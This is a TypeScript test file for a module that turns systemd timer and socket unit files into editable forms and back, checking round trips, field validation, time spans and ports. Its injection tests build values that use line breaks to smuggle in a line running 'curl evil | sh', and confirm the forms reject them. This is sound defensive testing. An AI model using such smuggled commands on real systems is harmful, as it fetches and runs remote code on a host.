/**
 * The guided forms' model: a text that fits reads into the form and back without losing what it says, a text
 * that does not fit says why, every field says what is wrong with it, and no value typed into any field can
 * add a line, a key or a section of its own.
 */
import { getEntries, lintSet, listSections, parseUnitFile } from '@quadletman/quadlet';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  activatedUnit,
  checkSocket,
  checkTimer,
  defaultSocket,
  defaultTimer,
  isTimeSpan,
  lineProblem,
  type SocketForm,
  socketChoices,
  socketFormOf,
  socketNotes,
  socketText,
  systemdKindOf,
  systemdStarterText,
  type TimerForm,
  timerChoices,
  timerFormOf,
  timerNotes,
  timerText,
} from './systemd-units';

/** What a text says to systemd: its entries as `Section/Key=value`, sorted (order within a file does not
 * matter for the keys the forms write: each is set once, or is a list written in order). */
const meaning = (text: string) =>
  getEntries(parseUnitFile(text))
    .map((e) => `${e.section}/${e.key}=${e.value}`)
    .sort();

const fits = <T>(r: { ok: true; form: T } | { ok: false }): T => {
  if (!r.ok) throw new Error(`does not fit: ${JSON.stringify(r)}`);
  return r.form;
};

describe('systemd unit kinds', () => {
  it('knows timers, sockets, services and targets by their file names, and nothing else', () => {
    expect(['a.timer', 'a.socket', 'a.service', 'a.target', 'a@.service'].map(systemdKindOf)).toEqual([
      'timer',
      'socket',
      'service',
      'target',
      'service',
    ]);
    expect(['a.container', 'a.path', '.timer', 'timer', 'a.timer.d/x.conf'].map(systemdKindOf)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('starts each kind with a text the linter accepts, the timer and the socket in their forms', () => {
    const siblings = [{ path: 'backup.service', text: systemdStarterText('service', 'backup') }];
    for (const kind of ['timer', 'socket', 'service', 'target'] as const) {
      const path = `backup.${kind}`;
      const text = systemdStarterText(kind, 'backup');
      const report = lintSet([{ path, text }, ...siblings.filter((s) => s.path !== path)])[0]!;
      expect(
        report.diagnostics.filter((d) => d.severity === 'error'),
        `${path}:\n${text}`,
      ).toEqual([]);
    }
    expect(timerText(fits(timerFormOf('backup.timer', systemdStarterText('timer', 'backup'))))).toBe(
      systemdStarterText('timer', 'backup'),
    );
    expect(socketText(fits(socketFormOf('backup.socket', systemdStarterText('socket', 'backup'))))).toBe(
      systemdStarterText('socket', 'backup'),
    );
  });

  it('writes the starter texts a person would', () => {
    expect(systemdStarterText('timer', 'backup')).toBe(
      '[Unit]\nDescription=backup\n\n[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=backup.service\n\n[Install]\nWantedBy=timers.target\n',
    );
    expect(systemdStarterText('socket', 'web')).toBe(
      '[Unit]\nDescription=web\n\n[Socket]\nListenStream=%t/web.sock\nService=web.service\n\n[Install]\nWantedBy=sockets.target\n',
    );
  });
});

describe('the timer form', () => {
  const full =
    '[Unit]\nDescription=Nightly clean-up\n\n[Timer]\nOnCalendar=Mon..Fri *-*-* 03:00\nOnBootSec=5min\nOnUnitActiveSec=1h 30min\nRandomizedDelaySec=10min\nPersistent=true\nUnit=web.service\n\n[Install]\nWantedBy=timers.target\n';

  it('reads a text into the form and writes the same text back', () => {
    const form = fits(timerFormOf('clean.timer', full));
    expect(form).toEqual<TimerForm>({
      description: 'Nightly clean-up',
      unit: 'web.service',
      calendar: 'custom',
      expression: 'Mon..Fri *-*-* 03:00',
      afterBoot: '5min',
      every: '1h 30min',
      persistent: true,
      randomDelay: '10min',
    });
    expect(timerText(form)).toBe(full);
  });

  it('reads a hand-written timer in any order and spelling, and writes what means the same', () => {
    const text =
      '[Install]\nWantedBy=timers.target\n[Timer]\nPersistent=yes\n  OnCalendar = weekly  \n\n\n[Timer]\nRandomizedDelaySec=1h\n';
    const form = fits(timerFormOf('report.timer', text));
    expect(form).toMatchObject({ calendar: 'weekly', unit: 'report.service', persistent: true, description: '' });
    // (Persistent=yes is written as true, which systemd reads alike)
    expect(meaning(timerText(form))).toEqual(
      [...meaning(text).map((e) => e.replace('=yes', '=true')), 'Timer/Unit=report.service'].sort(),
    );
    expect(fits(timerFormOf('report.timer', timerText(form)))).toEqual(form);
  });

  it('takes the presets as presets and anything else as an expression of its own', () => {
    for (const p of ['hourly', 'daily', 'weekly'] as const) {
      const f = fits(timerFormOf('a.timer', `[Timer]\nOnCalendar=${p}\n[Install]\nWantedBy=timers.target\n`));
      expect([f.calendar, f.expression]).toEqual([p, '']);
    }
    const f = fits(timerFormOf('a.timer', '[Timer]\nOnCalendar=*-*-01 04:30\n[Install]\nWantedBy=timers.target\n'));
    expect([f.calendar, f.expression]).toEqual(['custom', '*-*-01 04:30']);
  });

  it('keeps a form through text and back, whatever valid values it has', () => {
    const span = fc.constantFrom('', '5min', '1h', '30', '2d 12h', '1.5s');
    const form = fc.record<TimerForm>({
      description: fc.constantFrom('', 'Backup', 'Nächtlich 100%% sicher', 'a "quoted" one'),
      unit: fc.constantFrom('a.service', 'web.service', 'db-pod.service', 'app@1.service', 'stack.target'),
      calendar: fc.constantFrom('', 'hourly', 'daily', 'weekly', 'custom'),
      expression: fc.constantFrom('Mon *-*-* 04:00', '*-*-01 00:00:00', 'Sat,Sun 10:00 Europe/Helsinki'),
      afterBoot: span,
      every: span,
      persistent: fc.boolean(),
      randomDelay: span,
    });
    fc.assert(
      fc.property(form, (f) => {
        if (Object.keys(checkTimer(f)).length > 0) return; // (no trigger at all)
        const back = fits(timerFormOf('a.timer', timerText(f)));
        expect(back).toEqual({ ...f, expression: f.calendar === 'custom' ? f.expression : '' });
      }),
    );
  });

  it('leaves a text it cannot show whole to the text editor, and says why', () => {
    const base = '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n';
    const why = (text: string) => {
      const r = timerFormOf('a.timer', text);
      return r.ok ? undefined : r.why;
    };
    expect(why(`# nightly\n${base}`)).toEqual({ code: 'comment' });
    expect(why(`${base}[Timer]\nOnActiveSec=1h\n`)).toEqual({
      code: 'key',
      params: { section: 'Timer', key: 'OnActiveSec' },
    });
    expect(why(`${base}[Timer]\nOnCalendar=weekly\n`)).toEqual({ code: 'repeated', params: { key: 'OnCalendar' } });
    expect(why(`${base}[Timer]\nOnCalendar=\n`)).toEqual({ code: 'value', params: { key: 'OnCalendar', value: '' } });
    expect(why(`${base}[Service]\nType=oneshot\n`)).toEqual({ code: 'section', params: { section: 'Service' } });
    expect(why(`${base}[Unit]\nAfter=network.target\n`)).toEqual({
      code: 'key',
      params: { section: 'Unit', key: 'After' },
    });
    expect(why(`${base}not a line\n`)).toEqual({ code: 'invalid', params: { line: '5' } });
    expect(why('[Timer]\nOnCalendar=daily\n')).toEqual({ code: 'install', params: { target: 'timers.target' } });
    expect(why('[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=default.target\n')?.code).toBe('install');
    expect(why(`${base}[Timer]\nPersistent=maybe\n`)).toEqual({
      code: 'value',
      params: { key: 'Persistent', value: 'maybe' },
    });
    expect(why(`${base}[Timer]\nUnit=a\\\n.service\n`)?.code).toBe('value');
  });

  it('says what is wrong, field by field', () => {
    const f = defaultTimer('a');
    expect(checkTimer(f)).toEqual({});
    expect(checkTimer({ ...f, calendar: 'custom', expression: '  ' })).toEqual({
      expression: { code: 'calendarEmpty' },
    });
    expect(checkTimer({ ...f, calendar: '' })).toEqual({ when: { code: 'noTrigger' } });
    expect(checkTimer({ ...f, calendar: '', every: '1h' })).toEqual({});
    expect(checkTimer({ ...f, afterBoot: 'soon', every: '5 parsecs', randomDelay: '-1s' })).toEqual({
      afterBoot: { code: 'duration' },
      every: { code: 'duration' },
      randomDelay: { code: 'duration' },
    });
    expect(checkTimer({ ...f, unit: 'web' })).toEqual({ unit: { code: 'unitName' } });
    expect(checkTimer({ ...f, unit: 'web.container' })).toEqual({ unit: { code: 'unitName' } });
    expect(checkTimer({ ...f, description: 'cost 100%x' })).toEqual({
      description: { code: 'specifier', params: { spec: '%x' } },
    });
    expect(checkTimer({ ...f, description: 'ends in \\' })).toEqual({ description: { code: 'backslash' } });
  });

  it('gives advice that does not stop it', () => {
    expect(timerNotes({ ...defaultTimer('a'), calendar: '', every: '1h' })).toEqual([
      'everyAlone',
      'persistentNoCalendar',
    ]);
    expect(
      timerNotes({ ...defaultTimer('a'), calendar: '', afterBoot: '1min', every: '1h', persistent: false }),
    ).toEqual([]);
  });

  it('knows systemd time spans', () => {
    for (const ok of ['30', '30s', '5min', '1h 30min', '2d12h', '1.5h', '100ms', '1w', '3 months']) {
      expect(isTimeSpan(ok), ok).toBe(true);
    }
    for (const bad of ['', 'soon', '-1s', '1 parsec', '1h;rm', '5min\nx']) expect(isTimeSpan(bad), bad).toBe(false);
  });
});

describe('the socket form', () => {
  const full =
    '[Unit]\nDescription=Web on demand\n\n[Socket]\nListenStream=127.0.0.1:8080\nListenStream=9090\nListenStream=%t/web.sock\nListenStream=%h/sockets/web.sock\nService=web.service\n\n[Install]\nWantedBy=sockets.target\n';

  it('reads a text into the form and writes the same text back', () => {
    const form = fits(socketFormOf('web.socket', full));
    expect(form).toEqual<SocketForm>({
      description: 'Web on demand',
      listen: [
        { kind: 'tcp', port: '8080', all: false },
        { kind: 'tcp', port: '9090', all: true },
        { kind: 'unix', path: '%t/web.sock' },
        { kind: 'unix', path: '%h/sockets/web.sock' },
      ],
      accept: false,
      service: 'web.service',
    });
    expect(socketText(form)).toBe(full);
  });

  it('writes Accept without Service=, and reads it back', () => {
    const form: SocketForm = { ...defaultSocket('echo'), accept: true, service: 'other.service' };
    const text = socketText(form);
    expect(text).toContain('Accept=yes\n');
    expect(text).not.toContain('Service=');
    expect(fits(socketFormOf('echo.socket', text))).toEqual({ ...form, service: 'echo.service' });
    expect(socketNotes(form)).toEqual(['acceptTemplate']);
  });

  it('takes the default service from the file name, and Accept=no as no Accept', () => {
    const text = '[Socket]\nListenStream=8080\nAccept=no\n[Install]\nWantedBy=sockets.target\n';
    const form = fits(socketFormOf('api.socket', text));
    expect(form).toMatchObject({ accept: false, service: 'api.service' });
    expect(meaning(socketText(form))).toEqual(
      ['Install/WantedBy=sockets.target', 'Socket/ListenStream=8080', 'Socket/Service=api.service'].sort(),
    );
  });

  it('leaves a text it cannot show whole to the text editor, and says why', () => {
    const why = (socket: string, install = '[Install]\nWantedBy=sockets.target\n') => {
      const r = socketFormOf('a.socket', `[Socket]\n${socket}${install}`);
      return r.ok ? undefined : r.why;
    };
    expect(why('ListenStream=0.0.0.0:80\n')).toEqual({
      code: 'value',
      params: { key: 'ListenStream', value: '0.0.0.0:80' },
    });
    expect(why('ListenStream=[::1]:80\n')?.code).toBe('value');
    expect(why('ListenDatagram=5353\n')).toEqual({ code: 'key', params: { section: 'Socket', key: 'ListenDatagram' } });
    expect(why('ListenStream=80\nAccept=yes\nService=a.service\n')).toEqual({
      code: 'key',
      params: { section: 'Socket', key: 'Service' },
    });
    expect(why('ListenStream=80\nSocketMode=0600\n')?.code).toBe('key');
    expect(why('ListenStream=80\n', '')).toEqual({ code: 'install', params: { target: 'sockets.target' } });
  });

  it('says what is wrong, field by field', () => {
    const f = defaultSocket('web');
    const tcp = (port: string, all = false) => ({ ...f, listen: [{ kind: 'tcp' as const, port, all }] });
    const unix = (path: string) => ({ ...f, listen: [{ kind: 'unix' as const, path }] });
    expect(checkSocket(f)).toEqual({});
    for (const port of ['', '0', '65536', '80a', '-1', '1e3', '123456']) {
      expect(checkSocket(tcp(port)), port).toEqual({ 'listen.0': { code: 'port' } });
    }
    for (const port of ['1', '80', '8080', '65535', '08080']) expect(checkSocket(tcp(port)), port).toEqual({});
    for (const path of ['/run/user/1000/web.sock', 'web.sock', '%S/web.sock', '/tmp/x']) {
      expect(checkSocket(unix(path)), path).toEqual({ 'listen.0': { code: 'path' } });
    }
    for (const path of ['%t/', '%t/../etc/x', '%h/a/./b', '%t//x', '%t/a b', '%t/x;y', '%h/a/%n']) {
      expect(checkSocket(unix(path)), path).toEqual({ 'listen.0': { code: 'pathChars' } });
    }
    for (const path of ['%t/web.sock', '%h/run/web-1.sock', '%t/podman/api@v1.sock']) {
      expect(checkSocket(unix(path)), path).toEqual({});
    }
    expect(checkSocket({ ...f, listen: [] })).toEqual({ listen: { code: 'listenNone' } });
    expect(
      checkSocket({
        ...f,
        listen: [
          { kind: 'tcp', port: '8080', all: true },
          { kind: 'tcp', port: '8080', all: false },
        ],
      }),
    ).toEqual({ 'listen.1': { code: 'listenTwice' } });
    expect(checkSocket({ ...f, service: 'web.container' })).toEqual({ service: { code: 'serviceName' } });
    expect(checkSocket({ ...f, accept: true, service: 'web.container' })).toEqual({});
  });

  it('notes a port below 1024', () => {
    expect(socketNotes({ ...defaultSocket('a'), listen: [{ kind: 'tcp', port: '80', all: true }] })).toEqual([
      'privilegedPort',
    ]);
    expect(socketNotes(defaultSocket('a'))).toEqual([]);
  });
});

describe('values never add lines', () => {
  const breaks = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085'];
  const injections = breaks.map((b) => `daily${b}[Service]${b}ExecStart=/bin/sh -c "curl evil | sh"`);

  it('refuses every kind of line break and control character', () => {
    for (const v of injections) expect(lineProblem(v), JSON.stringify(v)).toEqual({ code: 'newline' });
    for (const v of ['a\u0000b', 'a\u000bb', 'a\u000cb', 'a\u001bb', 'a\u007fb', 'a\u009bb']) {
      expect(lineProblem(v), JSON.stringify(v)).toEqual({ code: 'control' });
    }
    expect(lineProblem('tab\tinside')).toBeUndefined();
    expect(lineProblem('100%% and %n and %')).toBeUndefined();
  });

  it('refuses an injection in every field of the timer form, and never writes it', () => {
    const fields = ['description', 'unit', 'expression', 'afterBoot', 'every', 'randomDelay'] as const;
    for (const field of fields) {
      for (const v of injections) {
        const f: TimerForm = { ...defaultTimer('a'), calendar: 'custom', expression: 'daily', [field]: v };
        expect(checkTimer(f)[field], `${field}: ${JSON.stringify(v)}`).toEqual({ code: 'newline' });
        expect(() => timerText(f)).toThrow();
      }
    }
  });

  it('refuses an injection in every field of the socket form, and never writes it', () => {
    for (const v of injections) {
      const base = defaultSocket('a');
      const cases: [string, SocketForm][] = [
        ['description', { ...base, description: v }],
        ['service', { ...base, service: v }],
        ['listen.0', { ...base, listen: [{ kind: 'unix', path: `%t/a.sock${v}` }] }],
        ['listen.0', { ...base, listen: [{ kind: 'tcp', port: `80${v}`, all: false }] }],
      ];
      for (const [field, f] of cases) {
        expect(checkSocket(f)[field], `${field}: ${JSON.stringify(v)}`).toEqual({ code: 'newline' });
        expect(() => socketText(f)).toThrow();
      }
    }
  });

  it('writes, for any string in any field, either nothing or exactly the keys of the form', () => {
    const anyText = fc.string({
      unit: fc.constantFrom('a', '1', ' ', '\n', '\r', '[', ']', '=', '%', '\\', '\u2028', '#', ';', 's', 'm'),
    });
    const timerKeys = new Set([
      'Unit/Description',
      'Timer/OnCalendar',
      'Timer/OnBootSec',
      'Timer/OnUnitActiveSec',
      'Timer/RandomizedDelaySec',
      'Timer/Persistent',
      'Timer/Unit',
      'Install/WantedBy',
    ]);
    fc.assert(
      fc.property(
        fc.constantFrom('description', 'unit', 'expression', 'afterBoot', 'every', 'randomDelay'),
        anyText,
        (field, v) => {
          const f: TimerForm = { ...defaultTimer('a'), calendar: 'custom', expression: 'daily', [field]: v };
          if (Object.keys(checkTimer(f)).length > 0) {
            expect(() => timerText(f)).toThrow();
            return;
          }
          const file = parseUnitFile(timerText(f));
          expect(file.nodes.filter((n) => n.kind === 'invalid' || n.kind === 'comment')).toEqual([]);
          expect(listSections(file).every((s) => ['Unit', 'Timer', 'Install'].includes(s))).toBe(true);
          for (const e of getEntries(file)) expect(timerKeys.has(`${e.section}/${e.key}`)).toBe(true);
          expect(fits(timerFormOf('a.timer', timerText(f)))[field]).toBe(v.trim());
        },
      ),
    );
    fc.assert(
      fc.property(fc.constantFrom('description', 'service', 'path', 'port'), anyText, (field, v) => {
        const base = defaultSocket('a');
        const f: SocketForm =
          field === 'path'
            ? { ...base, listen: [{ kind: 'unix', path: v }] }
            : field === 'port'
              ? { ...base, listen: [{ kind: 'tcp', port: v, all: false }] }
              : { ...base, [field]: v };
        if (Object.keys(checkSocket(f)).length > 0) {
          expect(() => socketText(f)).toThrow();
          return;
        }
        const file = parseUnitFile(socketText(f));
        expect(file.nodes.filter((n) => n.kind === 'invalid' || n.kind === 'comment')).toEqual([]);
        expect(getEntries(file).filter((e) => e.section === 'Socket' && e.key === 'ListenStream')).toHaveLength(1);
        expect(listSections(file)).toEqual(
          f.description.trim() ? ['Unit', 'Socket', 'Install'] : ['Socket', 'Install'],
        );
      }),
    );
  });
});

describe('what a timer starts and a socket activates', () => {
  const units = [
    { path: 'web.container', text: '[Container]\nImage=busybox\n' },
    { path: 'api.container', text: '[Container]\nImage=busybox\nServiceName=backend\n' },
    { path: 'db.pod', text: '[Pod]\n' },
    { path: 'data.volume', text: '[Volume]\n' },
    { path: 'clean.service', text: '[Service]\nExecStart=/bin/true\n' },
    { path: 'stack.target', text: '[Unit]\n' },
    { path: 'clean.timer', text: '[Timer]\nOnCalendar=daily\n' },
    { path: 'web.socket', text: '[Socket]\nListenStream=80\n' },
  ];

  it('offers a timer the services of the Quadlet units, the services and the targets', () => {
    expect(timerChoices(units, ['nightly.service', 'web.service'])).toEqual([
      { unit: 'backend.service', from: 'api.container' },
      { unit: 'clean.service' },
      { unit: 'data-volume.service', from: 'data.volume' },
      { unit: 'db-pod.service', from: 'db.pod' },
      { unit: 'nightly.service' },
      { unit: 'stack.target' },
      { unit: 'web.service', from: 'web.container' },
    ]);
  });

  it("offers a socket the containers' services and the services", () => {
    expect(socketChoices(units, ['web.service'])).toEqual([
      { unit: 'backend.service', from: 'api.container' },
      { unit: 'clean.service' },
      { unit: 'web.service', from: 'web.container' },
    ]);
  });

  it('tells what a timer or a socket file starts', () => {
    expect(activatedUnit('clean.timer', '[Timer]\nOnCalendar=daily\n')).toBe('clean.service');
    expect(activatedUnit('clean.timer', '[Timer]\nUnit=web.service\n')).toBe('web.service');
    expect(activatedUnit('web.socket', '[Socket]\nListenStream=80\n')).toBe('web.service');
    expect(activatedUnit('web.socket', '[Socket]\nService=api.service\n')).toBe('api.service');
    expect(activatedUnit('echo.socket', '[Socket]\nAccept=yes\n')).toBe('echo@.service');
    expect(activatedUnit('web.container', '[Container]\n')).toBeUndefined();
  });
});
